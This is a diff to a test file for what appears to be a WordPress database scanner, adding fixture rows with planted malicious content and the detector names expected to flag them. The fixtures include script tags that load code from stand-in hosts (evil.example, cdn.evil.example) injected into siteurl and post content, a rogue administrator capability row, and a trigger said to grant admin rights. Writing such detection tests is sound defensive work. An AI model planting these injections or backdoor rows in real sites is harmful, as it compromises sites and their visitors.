@@ -24,7 +24,11 @@ WP = (
     "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES"
     " (1, 'wp_capabilities', 'a:1:{s:13:\"administrator\";b:1;}')",
     "INSERT INTO wp_options (option_name, option_value) VALUES"
-    " ('siteurl', 'https://shop.example\"><script src=https://evil.example/x.js></script>')",
+    " ('siteurl', 'https://shop.example\"><script src=https://evil.example/x.js></script>'),"
+    " ('widget_text', '<script src=\"https://www.googletagmanager.com/gtag.js\"></script>')",
+    "CREATE TABLE wp_posts (ID BIGINT PRIMARY KEY, post_content LONGTEXT)",
+    "INSERT INTO wp_posts VALUES (7, 'Sale! <script src=\"//cdn.evil.example/p.js\"></script>'),"
+    " (8, 'plain text about <script> tags')",
 )
 TRIGGER = (  # the reference's shape: a comment's magic token makes its author an administrator
     "CREATE TRIGGER wp_sync AFTER INSERT ON wp_users FOR EACH ROW BEGIN"
@@ -71,6 +75,7 @@ def test_events_routines_and_options(mariadb_schema: tuple[Any, str]) -> None:
     assert checks == [
         ("db_magic_token_user", "helper"), ("db_malicious_event", ""),
         ("db_malicious_function", ""), ("db_malicious_trigger", ""),
+        ("db_options_injection", ""), ("db_post_injection", ""),
         ("db_rogue_admin", "newadmin"), ("db_siteurl_hijack", ""),
         ("db_suspicious_admin_email", "helper"), ("db_unexpected_procedure", ""),
     ]  # fmt: skip
